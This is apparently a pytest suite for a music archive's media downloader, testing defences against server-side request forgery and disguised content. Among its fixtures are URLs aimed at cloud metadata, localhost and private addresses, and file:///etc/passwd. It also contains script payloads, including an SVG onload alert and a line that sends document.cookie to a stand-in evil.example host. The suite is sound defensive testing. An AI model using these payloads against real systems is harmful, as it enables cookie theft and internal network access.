"""Archiving refuses URLs that could reach places the provider should not send us."""

import re

import pytest

from music import upstream
from music.services import media
from music.upstream.base import Clip, ClipState
from tests.localserver import Route, fake_dns, local_server
from tests.mediafiles import image, mp3_frames


@pytest.mark.parametrize(
    ("url", "reason"),
    [
        ("file:///etc/passwd", "Only http(s) media links"),
        ("ftp://cdn1.suno.ai/a.mp3", "Only http(s) media links"),
        # Each of these fails the allow-list itself (not the scheme, not a DNS error).
        ("http://169.254.169.254/latest/meta-data", "169.254.169.254 is not allowed"),
        ("http://localhost:8000/admin/", "localhost is not allowed"),
        ("http://evil.example.com/a.mp3", "evil.example.com is not allowed"),
        ("http://10.0.0.5/a.mp3", "10.0.0.5 is not allowed"),
    ],
)
def test_urls_outside_the_providers_hosts_are_refused(url, reason):
    with pytest.raises(media.MediaRefused, match=re.escape(reason)):
        media.check_url(url)


def test_an_allowed_cdn_name_pointing_at_a_private_address_is_refused(settings, monkeypatch):
    settings.SUNO_MEDIA_HOSTS = ["cdn.example.org"]
    fake_dns(monkeypatch, {"cdn.example.org": ["192.168.1.10"]})
    clip = Clip(id="c", state=ClipState.SUCCEEDED, audio_url="https://cdn.example.org/a.mp3")
    result = media.fetch_clip_media(clip)
    assert not result.ok and not result.retry
    assert "not allowed" in result.error


def test_the_providers_own_host_is_allowed():
    media.check_url(f"{upstream.SIMULATOR_BASE_URL}/media/x.mp3")


def test_a_refused_audio_link_is_reported_not_retried():
    clip = Clip(id="c", state=ClipState.SUCCEEDED, audio_url="http://evil.example.com/a.mp3")
    result = media.fetch_clip_media(clip)
    assert not result.ok
    assert not result.retry
    assert "not allowed" in result.error


def test_files_over_the_size_limit_are_refused(settings, simulator):
    from music.upstream.base import SongRequest

    provider = upstream.get_provider()
    job = provider.submit(SongRequest(prompt="big")).upstream_id
    clip = provider.fetch([job])[job].clips[0]
    settings.SUNO_MAX_MEDIA_BYTES = 1000
    result = media.fetch_clip_media(clip)
    assert not result.ok
    assert "larger than" in result.error


# --- what is kept: media only, typed by its bytes ----------------------------------------
HTML = b"<!doctype html><script>fetch('/admin/').then(r => r.text()).then(alert)</script>"
JS = b"document.location = 'https://evil.example/?c=' + document.cookie"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>'
MP3 = mp3_frames()
PNG = image("PNG")


def serve(server, path, body, content_type="text/html"):
    server.routes[path] = Route(body, headers={"Content-Type": content_type})
    return server.url(path)


def clip_of(audio_url, image_url=""):
    return Clip(id="c", state=ClipState.SUCCEEDED, audio_url=audio_url, image_url=image_url)


@pytest.mark.parametrize(
    ("path", "body", "content_type"),
    [
        ("/song.html", HTML, "text/html"),
        ("/song.mp3", HTML, "audio/mpeg"),  # HTML that says it is audio
        ("/song.js", JS, "text/javascript"),
        ("/song.svg", SVG, "image/svg+xml"),
        ("/cover-as-audio.png", PNG, "image/png"),  # an image is not the song's audio
    ],
)
def test_disguised_audio_is_refused_and_explained(cdn, path, body, content_type):
    result = media.fetch_clip_media(clip_of(serve(cdn, path, body, content_type)))
    assert not result.ok and not result.retry
    assert "not audio or video" in result.error
    assert result.files == {}


def test_an_mp3_behind_an_html_link_is_stored_as_mp3_and_a_script_cover_is_not(cdn):
    clip = clip_of(serve(cdn, "/clip.html", MP3), serve(cdn, "/cover.js", JS, "text/javascript"))
    result = media.fetch_clip_media(clip)
    assert result.ok
    assert set(result.files) == {"audio_file"}  # the cover is best effort: left out
    audio = result.files["audio_file"]
    assert audio.name == "audio.mp3"
    assert audio.media_type.content_type == "audio/mpeg"
    assert audio.data == MP3


def test_an_svg_cover_is_left_out_and_a_png_one_kept(cdn):
    song_url = serve(cdn, "/a", MP3, "audio/mpeg")
    result = media.fetch_clip_media(clip_of(song_url, serve(cdn, "/c.svg", SVG, "image/svg+xml")))
    assert result.ok and set(result.files) == {"audio_file"}
    result = media.fetch_clip_media(clip_of(song_url, serve(cdn, "/c.jpeg", PNG, "image/jpeg")))
    assert result.files["image_file"].name == "cover.png"


def test_an_export_that_is_not_media_is_refused(cdn):
    result = media.fetch_file(serve(cdn, "/x.wav", HTML), "wav")
    assert not result.ok and not result.retry
    assert "not audio or video" in result.error


def test_a_download_that_trickles_past_the_deadline_is_timed_out(cdn, settings):
    settings.STUDIO_FETCH_DEADLINE = 1.0
    cdn.routes["/slow.mp3"] = Route(MP3[:60], trickle=0.5)
    result = media.fetch_clip_media(clip_of(cdn.url("/slow.mp3")))
    assert not result.ok and result.retry
    assert "timed out" in result.error


def test_a_redirect_to_another_port_of_the_same_host_is_refused(cdn):
    with local_server({"/secret": Route(MP3)}) as internal:
        cdn.routes["/moved.mp3"] = Route(status=302, headers={"Location": internal.url("/secret")})
        result = media.fetch_clip_media(clip_of(cdn.url("/moved.mp3")))
        assert not result.ok and not result.retry
        assert "not allowed" in result.error
        assert internal.hits == []


def test_the_providers_own_private_host_is_not_exempt_on_other_ports(live_simulator):
    """A provider on 127.0.0.1 is allowed on its own port only (as listed), not on others."""
    with local_server({"/secret": Route(MP3)}) as internal:
        account = None  # the operator's provider: SUNO_BASE_URL is the live simulator
        assert upstream.provider_host(account) == "127.0.0.1"
        result = media.fetch_clip_media(clip_of(internal.url("/secret")), account)
        assert not result.ok and "not allowed" in result.error
        assert internal.hits == []


def test_a_redirect_to_a_host_the_provider_does_not_use_is_refused_by_name(cdn):
    cdn.routes["/moved.mp3"] = Route(
        status=302, headers={"Location": "http://files.elsewhere.example/song.mp3"}
    )
    result = media.fetch_clip_media(clip_of(cdn.url("/moved.mp3")))
    assert not result.ok and not result.retry
    assert result.error == "Media host files.elsewhere.example is not allowed for this provider."


def test_a_clip_without_a_file_link_yet_is_tried_again():
    """A provider may list a clip before its file link: the archive waits, it does not give up."""
    result = media.fetch_clip_media(clip_of(""))
    assert not result.ok and result.retry
    assert result.error == "The provider gave no file link."


def test_a_file_over_the_limit_says_the_limit_in_megabytes(cdn, settings):
    settings.SUNO_MAX_MEDIA_BYTES = 2 << 20
    result = media.fetch_clip_media(clip_of(serve(cdn, "/huge.mp3", MP3 * 20000, "audio/mpeg")))
    assert len(MP3 * 20000) > 2 << 20
    assert not result.ok and not result.retry
    assert result.error == "The file is larger than 2 MB."


def test_a_cover_that_is_not_an_image_is_refused_as_an_image(cdn):
    with upstream.media_client(None) as client:
        refused = media.fetch_one(client, serve(cdn, "/c.png", MP3), "cover", ("image",))
    assert not refused.ok and not refused.retry
    assert refused.error == (
        "The provider's file is not an image the studio can keep, so it was not saved."
    )


@pytest.mark.parametrize("odd", [" ", "\t", "\n", "\x00", "\x1f", "\x7f"])
def test_a_link_with_a_space_or_a_control_character_is_never_shown_nor_fetched(odd):
    """Browsers and Python parse such URLs differently: refused rather than guessed at."""
    good = f"{upstream.SIMULATOR_BASE_URL}/media/abc.mp3"
    assert media.safe_media_url(good) == good
    bad = good.replace("abc", f"a{odd}bc")
    assert media.safe_media_url(bad) == ""
    with pytest.raises(media.MediaRefused):
        media.check_url(bad)


def test_a_link_with_a_user_name_is_never_shown():
    host = upstream.SIMULATOR_BASE_URL.split("://", 1)[1]
    assert media.safe_media_url(f"http://someone@{host}/media/abc.mp3") == ""
    assert media.safe_media_url(f"http://{host}/media/abc.mp3")


def test_a_download_is_bounded_by_its_own_limit_whatever_the_clients(cdn):
    """`download` holds its limit even given a client allowed more (a caller's own)."""
    from music.upstream import netguard

    cdn.routes["/a.mp3"] = Route(MP3, headers={"Content-Type": "audio/mpeg"})
    policy = netguard.Policy.from_settings(max_bytes=len(MP3) * 2)
    with upstream.media_client(None, policy=policy) as client:
        data, _type = media.download(client, cdn.url("/a.mp3"), len(MP3))
        assert data == MP3  # exactly the limit is allowed
        with pytest.raises(media.MediaRefused, match="larger than"):
            media.download(client, cdn.url("/a.mp3"), len(MP3) - 1)


def test_a_link_with_non_ascii_letters_or_punctuation_is_kept():
    """A provider's file named in Chinese, or with a "!", is a plain link."""
    url = f"{upstream.SIMULATOR_BASE_URL}/media/~band/春节-快乐!.mp3"
    assert media.safe_media_url(url) == url
    media.check_url(url)


@pytest.mark.parametrize("status", [403, 404, 410])
def test_a_link_the_file_server_says_is_gone_is_marked_expired(cdn, status):
    """Provider links expire (403 from a signed URL, 404, 410): the archive then asks the
    provider for a fresh link instead of retrying the dead one."""
    cdn.routes["/old.mp3"] = Route(b"gone", status=status)
    result = media.fetch_clip_media(clip_of(cdn.url("/old.mp3")))
    assert not result.ok and result.retry and result.expired


@pytest.mark.parametrize("status", [409, 411, 500, 503])
def test_other_error_answers_are_retried_as_they_are(cdn, status):
    cdn.routes["/busy.mp3"] = Route(b"busy", status=status)
    result = media.fetch_clip_media(clip_of(cdn.url("/busy.mp3")))
    assert not result.ok and result.retry and not result.expired


def test_a_link_python_cannot_parse_is_never_shown_nor_fetched():
    assert media.safe_media_url("http://[::1/media/a.mp3") == ""
    with pytest.raises(media.MediaRefused, match="Only http"):
        media.check_url("http://[::1/media/a.mp3")


@pytest.mark.parametrize("scheme", ["ftp", "javascript", "data"])
def test_a_link_of_another_scheme_on_the_providers_host_is_never_shown(scheme):
    host = upstream.SIMULATOR_BASE_URL.split("://", 1)[1]
    assert media.safe_media_url(f"{scheme}://{host}/media/abc.mp3") == ""
